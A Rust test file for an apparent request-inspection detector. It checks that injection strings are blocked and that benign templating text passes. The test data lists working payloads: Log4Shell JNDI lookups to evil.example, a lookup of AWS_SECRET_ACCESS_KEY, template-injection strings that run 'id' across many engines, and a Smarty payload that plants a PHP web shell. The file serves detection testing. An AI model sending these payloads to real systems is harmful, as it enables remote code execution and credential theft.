use super::super::testing::{blocks, ids, ids_at};
use crate::inspect::detect::TargetKind;

#[test]
fn patterns_compile() {
    assert!(super::MARKERS.compiled());
    assert!(super::OPENER_AC.is_some() && super::HOSTILE_AC.is_some());
}

#[test]
fn injections_are_detected_at_level_1() {
    for p in [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://evil.example/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
        "${j${k8s:k5:-ND}i:ldap://x/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
        "${${upper:j}ndi:dns://x}",
        "${JNDI:LDAP://x}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "{{7*7}}",
        "{{ 7 * '7' }}",
        "${7*7}",
        "#{7*7}",
        "${{7*7}}",
        "{{config}}",
        "{{config.items()}}",
        "{{self.__init__.__globals__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for key, value in config.iteritems() %}{{ key|e }}{% endfor %}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "T(java.lang.System).getenv()",
        "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
        "${\"\".getClass().forName(\"java.lang.Runtime\")}",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "@java.lang.Runtime@getRuntime().exec('id')",
        "<%= 7*7 %>",
        "<%= system('id') %>",
        "<%= `ls` %>",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
        "{php}echo `id`;{/php}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "@(7*7)",
        "@{ var x = 7*7; }",
        "{{=7*7}}",
        "{{'a'.toUpperCase()}}",
        "{{ request }}",
        "{{['id']|filter('system')}}",
        "{{#with \"s\" as |string|}}{{/with}}",
        "${{<%[%'\"}}%\\.",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    ] {
        assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
    }
}

#[test]
fn benign_templating_passes_at_level_1() {
    for p in [
        "Hello {{name}}, your order {{order.id}} shipped",
        "{{#each items}}{{this.title}}{{/each}}",
        "Set ${HOME} in your shell profile",
        "const greeting = `Hello, ${name}!`;",
        "puts \"Hello #{user.name}\"",
        "SELECT * FROM t WHERE id = #{id}",
        "Use {% raw %} blocks in Jinja",
        "Price: ${price}",
        "{ \"a\": { \"b\": 1 } }",
        "{{ value|e }}",
        "50% {of} the time",
        "<% if logged_in %>Hi<% end %>",
        "Call us @(555) 123-4567",
        "Released {{2024-01-01}}",
        "Total {{ price }} + {{ tax }}",
    ] {
        assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
    }
}

#[test]
fn looser_levels_catch_more() {
    assert!(ids_at("{{ format(date) }}", TargetKind::JsonString, 2).contains(&6101));
    assert!(ids_at("{{ 10-2 }}", TargetKind::JsonString, 2).contains(&6101));
    assert!(ids_at("{{ x['a'] }}", TargetKind::JsonString, 3).contains(&6201));
}
